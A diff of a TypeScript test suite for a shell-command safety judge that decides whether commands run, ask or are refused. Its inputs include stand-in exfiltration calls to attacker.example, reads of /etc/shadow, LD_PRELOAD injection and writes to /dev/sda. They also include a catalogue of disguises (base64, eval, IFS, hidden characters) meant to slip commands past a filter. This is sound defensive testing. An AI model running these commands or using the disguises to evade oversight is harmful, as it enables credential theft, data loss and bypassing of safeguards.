@@ -1,157 +1,314 @@
 import { readFileSync } from 'node:fs'
 import { beforeAll, describe, expect, test } from '@jest/globals'
+import fc from 'fast-check'
 import { type CommandContext, judgeArgv, judgeCommand } from '../../../safety/command/judge.ts'
+import { parse } from '../../../safety/command/parse.ts'
+import { quote } from '../../../safety/command/unwrapped.ts'
 import { loadSql } from '../../../safety/sql/inspect.ts'
 
-const context: CommandContext = { knownHosts: new Set(['db1', '10.0.0.5']), knownNames: new Set(['web', 'web-1']) }
-const judged = (text: string) => judgeCommand(text, context)
+describe('judge', () => {
+  const context: CommandContext = { knownHosts: new Set(['db1', '10.0.0.5']), knownNames: new Set(['web', 'web-1']) }
+  const judged = (text: string) => judgeCommand(text, context)
 
-beforeAll(loadSql)
+  beforeAll(loadSql)
 
-type Row = { command: string; expected: string; label: string; class: string }
-const holes: Row[] = JSON.parse(readFileSync(new URL('../../data/commands/holes.json', import.meta.url), 'utf8'))
+  type Row = { command: string; expected: string; label: string; class: string }
+  const holes: Row[] = JSON.parse(readFileSync(new URL('../../data/commands/holes.json', import.meta.url), 'utf8'))
 
-describe('holes that were found in other judges stay shut', () => {
-  test.each(holes.map((row) => [row.class, row] as const))('%s', (_, { command, label }) => {
-    const { verdict, code } = judged(command)
-    expect(code).not.toBe('INTERNAL')
-    if (label === 'blocked') expect(verdict).toBe('refuse')
-    else if (label === 'read') expect(verdict).not.toBe('refuse')
-    else expect(verdict).not.toBe('run')
+  describe('holes that were found in other judges stay shut', () => {
+    test.each(holes.map((row) => [row.class, row] as const))('%s', (_, { command, label }) => {
+      const { verdict, code } = judged(command)
+      expect(code).not.toBe('INTERNAL')
+      if (label === 'blocked') expect(verdict).toBe('refuse')
+      else if (label === 'read') expect(verdict).not.toBe('refuse')
+      else expect(verdict).not.toBe('run')
+    })
+  })
+
+  test.each([
+    'df -h',
+    'cd /var/log && ls -la',
+    'ps aux --sort=-%mem | head -20',
+    'tail -n 100 /var/log/syslog | grep -i error | wc -l',
+    'journalctl -u nginx --since "10 min ago" --no-pager',
+    "awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
+    'cat /var/log/nginx/*.log 2>/dev/null',
+    'command -v reboot',
+    'find /etc -name shadow',
+    'test -f /etc/hosts && echo yes || echo no',
+    'LC_ALL=C sort /etc/passwd',
+    'env TZ=UTC date',
+    'nice -n 10 du -sh /var',
+    "sh -c 'df -h | head -3'",
+    'ping -c 3 db1',
+    'curl -s http://localhost:8080/health',
+    'ssh db1 "df -h"',
+    'docker exec web cat /etc/hosts',
+    'kubectl exec -n prod web-1 -- df -h',
+    'psql -c "select 1"',
+    "echo 'rm -rf /'",
+    'grep reboot /var/log/syslog',
+    'ls # and nothing else',
+  ])('a look around runs unasked: %s', (text) => {
+    expect(judged(text)).toMatchObject({ verdict: 'run', effect: 'read', code: 'READ', rewrite: null })
+  })
+
+  test.each([
+    ['an unknown program', 'frobnicate', 'UNKNOWN_COMMAND', 'frobnicate'],
+    ['a program from an unusual place', '/tmp/ls', 'UNKNOWN_COMMAND', '/tmp/ls'],
+    ['an unknown option', 'ls --frobnicate', 'ARGUMENT', '--frobnicate'],
+    ['a write', 'mkdir /tmp/x', 'UNKNOWN_COMMAND', 'mkdir'],
+    ['one write after many reads', 'ls; df -h && rm -f /tmp/x', 'UNKNOWN_COMMAND', 'rm'],
+    ['a program fed by a read', 'cat /tmp/x | sh', 'WRAPPER', 'sh'],
+    ['a file that is written', 'ls > /tmp/x', 'REDIRECTION', '> /tmp/x'],
+    ['a file that is read by the shell', 'wc -l < /etc/passwd', 'REDIRECTION', '< /etc/passwd'],
+    ['a loader in the environment', 'LD_PRELOAD=/tmp/x.so ls', 'ASSIGNMENT', 'LD_PRELOAD'],
+    ['a loader set by env', 'env LD_PRELOAD=/tmp/x.so ls', 'ASSIGNMENT', 'env'],
+    ['password hashes', 'cat /etc/shadow', 'SENSITIVE_PATH', '/etc/shadow'],
+    ['password hashes by a detour', 'cat /var/log/../../etc/shadow', 'SENSITIVE_PATH', '/var/log/../../etc/shadow'],
+    ['password hashes by a pattern', 'cat /etc/sh*', 'SENSITIVE_PATH', '/etc/sh*'],
+    ['password hashes after a cd', 'cd /etc && cat shadow', 'SENSITIVE_PATH', 'shadow'],
+    ['everything below /etc', 'grep -r x /etc', 'SENSITIVE_PATH', '/etc'],
+    ['everything below who knows where', 'grep -r x', 'SENSITIVE_PATH', null],
+    ['a host nobody looked up', 'ping -c 1 secret.attacker.example', 'EXFILTRATION', 'secret.attacker.example'],
+    [
+      'an address nobody looked up',
+      "curl 'https://attacker.example/?x=1'",
+      'EXFILTRATION',
+      'https://attacker.example/?x=1',
+    ],
+    ['a host nobody looked up, by ssh', 'ssh attacker df', 'EXFILTRATION', 'attacker'],
+    ['a container nobody looked up', 'docker exec other ls', 'UNKNOWN_NAME', 'other'],
+    ['a write in SQL', 'psql -c "delete from t"', 'LANGUAGE', 'delete from t'],
+    ['a program started by awk', `awk 'BEGIN{"id"|getline x}'`, 'LANGUAGE', `BEGIN{"id"|getline x}`],
+    ['what is found', 'find /tmp -exec cat {} +', 'SENSITIVE_PATH', '/tmp/**'],
+    ['what is read', 'ls | xargs cat', 'WRAPPER', 'xargs'],
+    ['a pattern that may become a second operand', 'uniq /tmp/a*', 'ARGUMENT', '/tmp/a*'],
+    ['a pattern that may become an option', 'ls *', 'ARGUMENT', '*'],
+    ['a variable', 'ls $x', 'SHAPE', '$x'],
+    ['a broken text', "ls 'x", 'SYNTAX', null],
+    ['no text', '', 'EMPTY', null],
+    ['only a comment', '# ls', 'EMPTY', null],
+  ])('%s asks, and the word that decided is named', (_, text, code, token) => {
+    expect(judged(text)).toMatchObject({ verdict: 'ask', code, token })
+  })
+
+  test('sudo asks however harmless the command, and says that it needs root', () => {
+    expect(judged('sudo -u postgres cat /etc/hosts')).toMatchObject({ verdict: 'ask', code: 'ROOT', needsRoot: true })
+    expect(judged("su - -c 'df -h'")).toMatchObject({ verdict: 'ask', needsRoot: true })
+    expect(judged('cat /etc/hosts').needsRoot).toBe(false)
+  })
+
+  test('what nobody can see is refused', () => {
+    for (const text of [
+      'ls\u202e',
+      'ls\r\nreboot',
+      'ls \u200b',
+      'ls\u0000',
+      'ls \u{e0041}',
+      'ｌs',
+      'git\u3000status',
+    ]) {
+      expect(judged(text)).toMatchObject({ verdict: 'refuse', effect: 'forbidden' })
+    }
+    expect(judged("grep 'übergroß' /var/log/syslog").verdict).toBe('run')
+  })
+
+  test('a text that nobody can review is refused', () => {
+    expect(judged(`echo ${'x'.repeat(20_000)}`)).toMatchObject({ verdict: 'refuse', code: 'TOO_LONG' })
+    let nested = 'reboot'
+    for (let layer = 0; layer < 200; layer += 1) nested = `nice ${nested}`
+    expect(judged(nested).verdict).toBe('refuse')
+  })
+
+  test('what bash cannot read to its end hides nothing that stands before it', () => {
+    expect(judged('reboot; $([[\\]]')).toMatchObject({ verdict: 'refuse' })
+  })
+
+  test('no text takes long to judge', () => {
+    const long = [
+      `rm -rf ${'{a,b}'.repeat(40)}`,
+      `cat /etc/${'*a'.repeat(200)}`,
+      `ls ${'$('.repeat(3000)}`,
+      `${'f() { '.repeat(1500)}x${'; }'.repeat(1500)}`,
+      `awk '${'a'.repeat(8000)}${'{print}'.repeat(900)}'`,
+      `sed -n '${'/a/p;'.repeat(3000)}'`,
+      `find / ${'-exec x ; '.repeat(1500)}`,
+      `echo ${'"'.repeat(16_001)}`,
+      `${'sudo '.repeat(3000)}ls`,
+      `ls ${'/..'.repeat(5000)}`,
+      `ls ${'a/../'.repeat(3000)}*`,
+    ]
+    for (const text of long) {
+      const before = performance.now()
+      expect(judged(text).code).not.toBe('INTERNAL')
+      expect(performance.now() - before).toBeLessThan(60_000)
+    }
+  })
+
+  test('an argv is judged without a shell: nothing in it expands', () => {
+    expect(judgeArgv(['ls', '$(reboot)', '*', '; reboot'], context)).toMatchObject({ verdict: 'run' })
+    expect(judgeArgv(['sh', '-c', 'ls; reboot'], context)).toMatchObject({ verdict: 'refuse', code: 'FORBIDDEN' })
+    expect(judgeArgv(['cat', '/etc/shadow'], context)).toMatchObject({ verdict: 'ask', code: 'SENSITIVE_PATH' })
+    expect(judgeArgv([], context)).toMatchObject({ verdict: 'ask', code: 'EMPTY' })
+  })
+
+  test('the names of all commands are listed, inside substitutions too', () => {
+    expect(judged('ls $(whoami) | sudo -u x /usr/bin/head').commands).toEqual(['whoami', 'ls', 'sudo', 'head'])
+  })
+
+  test('a relative path is judged from where the command will run', () => {
+    expect(judgeCommand('rm -rf *', { ...context, directory: '/etc' }).verdict).toBe('refuse')
+    expect(judgeCommand('rm -rf *', { ...context, directory: '/tmp/build' }).verdict).toBe('ask')
+  })
+
+  test('a read-only session is part of the verdict where the verdict depends on it', () => {
+    const { verdict, environment } = judged('psql -c "select 1"')
+    expect(verdict).toBe('run')
+    expect(environment).toBeDefined()
   })
 })
 
-test.each([
-  'df -h',
-  'cd /var/log && ls -la',
-  'ps aux --sort=-%mem | head -20',
-  'tail -n 100 /var/log/syslog | grep -i error | wc -l',
-  'journalctl -u nginx --since "10 min ago" --no-pager',
-  "awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
-  'cat /var/log/nginx/*.log 2>/dev/null',
-  'command -v reboot',
-  'find /etc -name shadow',
-  'test -f /etc/hosts && echo yes || echo no',
-  'LC_ALL=C sort /etc/passwd',
-  'env TZ=UTC date',
-  'nice -n 10 du -sh /var',
-  "sh -c 'df -h | head -3'",
-  'ping -c 3 db1',
-  'curl -s http://localhost:8080/health',
-  'ssh db1 "df -h"',
-  'docker exec web cat /etc/hosts',
-  'kubectl exec -n prod web-1 -- df -h',
-  'psql -c "select 1"',
-  "echo 'rm -rf /'",
-  'grep reboot /var/log/syslog',
-  'ls # and nothing else',
-])('a look around runs unasked: %s', (text) => {
-  expect(judged(text)).toMatchObject({ verdict: 'run', effect: 'read', code: 'READ', rewrite: null })
-})
+describe('disguises', () => {
+  // What bash makes of a text decides, not how it is spelled: refused bare is refused in every dress, and asked about bare is never run.
 
-test.each([
-  ['an unknown program', 'frobnicate', 'UNKNOWN_COMMAND', 'frobnicate'],
-  ['a program from an unusual place', '/tmp/ls', 'UNKNOWN_COMMAND', '/tmp/ls'],
-  ['an unknown option', 'ls --frobnicate', 'ARGUMENT', '--frobnicate'],
-  ['a write', 'mkdir /tmp/x', 'UNKNOWN_COMMAND', 'mkdir'],
-  ['one write after many reads', 'ls; df -h && rm -f /tmp/x', 'UNKNOWN_COMMAND', 'rm'],
-  ['a program fed by a read', 'cat /tmp/x | sh', 'WRAPPER', 'sh'],
-  ['a file that is written', 'ls > /tmp/x', 'REDIRECTION', '> /tmp/x'],
-  ['a file that is read by the shell', 'wc -l < /etc/passwd', 'REDIRECTION', '< /etc/passwd'],
-  ['a loader in the environment', 'LD_PRELOAD=/tmp/x.so ls', 'ASSIGNMENT', 'LD_PRELOAD'],
-  ['a loader set by env', 'env LD_PRELOAD=/tmp/x.so ls', 'ASSIGNMENT', 'env'],
-  ['password hashes', 'cat /etc/shadow', 'SENSITIVE_PATH', '/etc/shadow'],
-  ['password hashes by a detour', 'cat /var/log/../../etc/shadow', 'SENSITIVE_PATH', '/var/log/../../etc/shadow'],
-  ['password hashes by a pattern', 'cat /etc/sh*', 'SENSITIVE_PATH', '/etc/sh*'],
-  ['password hashes after a cd', 'cd /etc && cat shadow', 'SENSITIVE_PATH', 'shadow'],
-  ['everything below /etc', 'grep -r x /etc', 'SENSITIVE_PATH', '/etc'],
-  ['everything below who knows where', 'grep -r x', 'SENSITIVE_PATH', null],
-  ['a host nobody looked up', 'ping -c 1 secret.attacker.example', 'EXFILTRATION', 'secret.attacker.example'],
-  [
-    'an address nobody looked up',
-    "curl 'https://attacker.example/?x=1'",
-    'EXFILTRATION',
-    'https://attacker.example/?x=1',
-  ],
-  ['a host nobody looked up, by ssh', 'ssh attacker df', 'EXFILTRATION', 'attacker'],
-  ['a container nobody looked up', 'docker exec other ls', 'UNKNOWN_NAME', 'other'],
-  ['a write in SQL', 'psql -c "delete from t"', 'LANGUAGE', 'delete from t'],
-  ['a program started by awk', `awk 'BEGIN{"id"|getline x}'`, 'LANGUAGE', `BEGIN{"id"|getline x}`],
-  ['what is found', 'find /tmp -exec cat {} +', 'SENSITIVE_PATH', '/tmp/**'],
-  ['what is read', 'ls | xargs cat', 'WRAPPER', 'xargs'],
-  ['a pattern that may become a second operand', 'uniq /tmp/a*', 'ARGUMENT', '/tmp/a*'],
-  ['a pattern that may become an option', 'ls *', 'ARGUMENT', '*'],
-  ['a variable', 'ls $x', 'SHAPE', '$x'],
-  ['a broken text', "ls 'x", 'SYNTAX', null],
-  ['no text', '', 'EMPTY', null],
-  ['only a comment', '# ls', 'EMPTY', null],
-])('%s asks, and the word that decided is named', (_, text, code, token) => {
-  expect(judged(text)).toMatchObject({ verdict: 'ask', code, token })
-})
+  const context = { knownHosts: new Set(['db-osl-1', '10.0.0.5']), knownNames: new Set(['web']) }
+  const verdictOf = (text: string) => judgeCommand(text, context).verdict
+  const strictness = { run: 0, ask: 1, refuse: 2 }
 
-test('sudo asks however harmless the command, and says that it needs root', () => {
-  expect(judged('sudo -u postgres cat /etc/hosts')).toMatchObject({ verdict: 'ask', code: 'ROOT', needsRoot: true })
-  expect(judged("su - -c 'df -h'")).toMatchObject({ verdict: 'ask', needsRoot: true })
-  expect(judged('cat /etc/hosts').needsRoot).toBe(false)
-})
+  type Row = { command: string }
+  const rows = ['writes', 'holes'].flatMap((file): Row[] =>
+    JSON.parse(readFileSync(new URL(`../../data/commands/${file}.json`, import.meta.url), 'utf8')),
+  )
 
-test('what nobody can see is refused', () => {
-  for (const text of ['ls\u202e', 'ls\r\nreboot', 'ls \u200b', 'ls\u0000', 'ls \u{e0041}', 'ｌs', 'git\u3000status']) {
-    expect(judged(text)).toMatchObject({ verdict: 'refuse', effect: 'forbidden' })
+  /** One command of plain words, so that each of them can be dressed by itself. */
+  function wordsOf(text: string): string[] | null {
+    const tree = parse(text)
+    const [pipeline, another] = tree?.pipelines ?? []
+    const [simple, second] = pipeline ?? []
+    if (!tree || another || second || !simple || tree.shapes.length > 0 || tree.error) return null
+    if (simple.redirections.length > 0 || simple.assignments.length > 0 || simple.words.length === 0) return null
+    const isPlain = simple.words.every(({ text, literal }) => literal && /^[\w./:@%+,=-]+$/.test(text))
+    return isPlain ? simple.words.map(({ text }) => text) : null
   }
-  expect(judged("grep 'übergroß' /var/log/syslog").verdict).toBe('run')
-})
 
-test('a text that nobody can review is refused', () => {
-  expect(judged(`echo ${'x'.repeat(20_000)}`)).toMatchObject({ verdict: 'refuse', code: 'TOO_LONG' })
-  let nested = 'reboot'
-  for (let layer = 0; layer < 200; layer += 1) nested = `nice ${nested}`
-  expect(judged(nested).verdict).toBe('refuse')
-})
+  const hex = (text: string) => [...text].map((character) => `\\x${character.charCodeAt(0).toString(16)}`).join('')
+  const octal = (text: string) =>
+    [...text].map((character) => `\\${character.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')
+  const base64 = (text: string) => Buffer.from(text).toString('base64')
+  const half = (text: string) => Math.max(1, Math.floor(text.length / 2))
 
-test('what bash cannot read to its end hides nothing that stands before it', () => {
-  expect(judged('reboot; $([[\\]]')).toMatchObject({ verdict: 'refuse' })
-})
-
-test('no text takes long to judge', () => {
-  const long = [
-    `rm -rf ${'{a,b}'.repeat(40)}`,
-    `cat /etc/${'*a'.repeat(200)}`,
-    `ls ${'$('.repeat(3000)}`,
-    `${'f() { '.repeat(1500)}x${'; }'.repeat(1500)}`,
-    `awk '${'a'.repeat(8000)}${'{print}'.repeat(900)}'`,
-    `sed -n '${'/a/p;'.repeat(3000)}'`,
-    `find / ${'-exec x ; '.repeat(1500)}`,
-    `echo ${'"'.repeat(16_001)}`,
-    `${'sudo '.repeat(3000)}ls`,
-    `ls ${'/..'.repeat(5000)}`,
-    `ls ${'a/../'.repeat(3000)}*`,
-  ]
-  for (const text of long) {
-    const before = performance.now()
-    expect(judged(text).code).not.toBe('INTERNAL')
-    expect(performance.now() - before).toBeLessThan(60_000)
+  /** One word in other clothes. */
+  const dressWord: Readonly<Record<string, (word: string) => string>> = {
+    'empty quotes': (word) => `${word.slice(0, half(word))}''${word.slice(half(word))}`,
+    'double quotes inside': (word) => `${word.slice(0, -1)}"${word.slice(-1)}"`,
+    'a backslash': (word) => `\\${word}`,
+    'a backslash inside': (word) => `${word.slice(0, -1)}\\${word.slice(-1)}`,
+    // At the end of a text a shell keeps the backslash, so there is nothing to continue.
+    'a continued line': (word) =>
+      word.length === 1 ? word : `${word.slice(0, half(word))}\\\n${word.slice(half(word))}`,
+    'ANSI-C quotes': (word) => `$'${hex(word)}'`,
+    'octal escapes': (word) => `$'${octal(word)}'`,
+    'locale quotes': (word) => `$"${word}"`,
+    'no parameter inside': (word) => `${word.slice(0, half(word))}$@${word.slice(half(word))}`,
+    'a default': (word) => `\${x:-${word}}`,
+    'a default in quotes': (word) => `"\${x:-${word}}"`,
+    'a substitution': (word) => `$(printf %s ${word})`,
+    'a backtick': (word) => `\`printf %s ${word}\``,
+    'printf with octal escapes': (word) => `$(printf '${octal(word)}')`,
+    base64: (word) => `$(echo ${base64(word)} | base64 -d)`,
+    rev: (word) => `$(rev <<< '${[...word].reverse().join('')}')`,
   }
-})
 
-test('an argv is judged without a shell: nothing in it expands', () => {
-  expect(judgeArgv(['ls', '$(reboot)', '*', '; reboot'], context)).toMatchObject({ verdict: 'run' })
-  expect(judgeArgv(['sh', '-c', 'ls; reboot'], context)).toMatchObject({ verdict: 'refuse', code: 'FORBIDDEN' })
-  expect(judgeArgv(['cat', '/etc/shadow'], context)).toMatchObject({ verdict: 'ask', code: 'SENSITIVE_PATH' })
-  expect(judgeArgv([], context)).toMatchObject({ verdict: 'ask', code: 'EMPTY' })
-})
+  /** A command in other clothes, word by word or as a whole. */
+  const dressCommand: Readonly<Record<string, (words: readonly string[]) => string>> = {
+    ...Object.fromEntries(
+      Object.entries(dressWord).flatMap(([name, dress]) => [
+        [`its name by ${name}`, (words: readonly string[]) => [dress(words[0]!), ...words.slice(1)].join(' ')],
+        [`each word by ${name}`, (words: readonly string[]) => words.map(dress).join(' ')],
+      ]),
+    ),
+    'the field separator': (words) => words.join(`$\{IFS}`),
+    'the field separator and a parameter': (words) => words.join('$IFS$9'),
+    braces: (words) => (words.length > 1 ? `{${words.join(',')}}` : words[0]!),
+    'a variable for the name': (words) => `a=${words[0]}; $a ${words.slice(1).join(' ')}`,
+    'variables for all words': (words) =>
+      `${words.map((word, at) => `v${at}=${word}`).join('; ')}; ${words.map((_, at) => `$v${at}`).join(' ')}`,
+    'two halves': (words) =>
+      `a=${words[0]!.slice(0, half(words[0]!))} b=${words[0]!.slice(half(words[0]!))}; $a$b ${words.slice(1).join(' ')}`,
+    'one variable': (words) => `a='${words.join(' ')}'; $a`,
+    'an array': (words) => `a=(${words.join(' ')}); "\${a[@]}"`,
+    'positional parameters': (words) => `set -- ${words.join(' ')}; "$@"`,
+    'a loop': (words) => `for a in ${words[0]}; do $a ${words.slice(1).join(' ')}; done`,
+    'a function': (words) => `f() { ${words[0]} "$@"; }; f ${words.slice(1).join(' ')}`,
+    'an alias': (words) => `alias q='${words[0]}'; q ${words.slice(1).join(' ')}`,
+    'arguments of a script': (words) => `sh -c '"$@"' x ${words.join(' ')}`,
+  }
 
-test('the names of all commands are listed, inside substitutions too', () => {
-  expect(judged('ls $(whoami) | sudo -u x /usr/bin/head').commands).toEqual(['whoami', 'ls', 'sudo', 'head'])
-})
+  /** Any text in other clothes. */
+  const dressText: Readonly<Record<string, (text: string) => string>> = {
+    eval: (text) => `eval ${quote(text)}`,
+    'a shell': (text) => `sh -c ${quote(text)}`,
+    'a here-string': (text) => `bash <<< ${quote(text)}`,
+    'a here-document': (text) => `bash <<'XYZ'\n${text}\nXYZ`,
+    'a pipe': (text) => `printf '%s' ${quote(text)} | sh`,
+    'base64 and a pipe': (text) => `echo ${base64(text)} | base64 -d | bash`,
+    'base64 and eval': (text) => `eval "$(base64 -d <<< ${base64(text)})"`,
+    'a variable and eval': (text) => `c=${quote(text)}; eval "$c"`,
+    'a variable and a shell': (text) => `c=${quote(text)}; sh -c "$c"`,
+    'a process substitution': (text) => `bash <(printf '%s' ${quote(text)})`,
+    'a group that reads': (text) => `echo ${base64(text)} | base64 -d | (sh)`,
+  }
 
-test('a relative path is judged from where the command will run', () => {
-  expect(judgeCommand('rm -rf *', { ...context, directory: '/etc' }).verdict).toBe('refuse')
-  expect(judgeCommand('rm -rf *', { ...context, directory: '/tmp/build' }).verdict).toBe('ask')
-})
+  /** Interpreters are read in a way of their own: a text inside quotes of theirs is not one of the shell's. */
+  const refused = rows.filter(({ command }) => /^[\x20-\x7e]+$/.test(command) && verdictOf(command) === 'refuse')
 
-test('a read-only session is part of the verdict where the verdict depends on it', () => {
-  const { verdict, environment } = judged('psql -c "select 1"')
-  expect(verdict).toBe('run')
-  expect(environment).toBeDefined()
+  describe('What is refused bare', () => {
+    test('is a good part of the corpora', () => expect(refused.length).toBeGreaterThan(60))
+
+    const laxer = (dresses: Readonly<Record<string, (row: string) => string | null>>): string[] =>
+      refused.flatMap(({ command }) =>
+        Object.entries(dresses).flatMap(([name, dress]) => {
+          const dressed = dress(command)
+          return dressed === null || verdictOf(dressed) === 'refuse' ? [] : [`${name}: ${dressed}`]
+        }),
+      )
+
+    test.each(Object.entries(dressCommand))('is refused behind %s', (name, dress) => {
+      const dressed = (text: string) => {
+        const words = wordsOf(text)
+        return words && dress(words)
+      }
+      expect(laxer({ [name]: dressed })).toEqual([])
+    })
+
+    test.each(Object.entries(dressText))('is refused as a text, behind %s', (name, dress) => {
+      expect(laxer({ [name]: dress })).toEqual([])
+    })
+  })
+
+  test.each([
+    '(ls) > /dev/sda',
+    '{ ls; } > /etc/passwd',
+    'if ls; then ls; fi > /dev/sda',
+    'for i in 1; do ls; done > /dev/sda',
+    'd=/dev/sda; ls > $d',
+  ])('what a group writes over is refused as well: %s', (text) => expect(verdictOf(text)).toBe('refuse'))
+
+  test('no dress, and no dress over a dress, makes a verdict laxer', () => {
+    const single = rows.flatMap(({ command }) => {
+      const words = wordsOf(command)
+      return words ? [{ command, words }] : []
+    })
+    const inner = fc.constantFrom(...Object.values(dressCommand))
+    const outer = fc.constantFrom((text: string) => text, ...Object.values(dressText))
+    fc.assert(
+      fc.property(fc.constantFrom(...single), inner, outer, ({ command, words }, dress, cover) => {
+        const dressed = cover(dress(words))
+        if (strictness[verdictOf(dressed)] < strictness[verdictOf(command)])
+          throw new Error(`${dressed} is judged less strictly than ${command}`)
+      }),
+      { numRuns: 3_000 },
+    )
+  })
 })
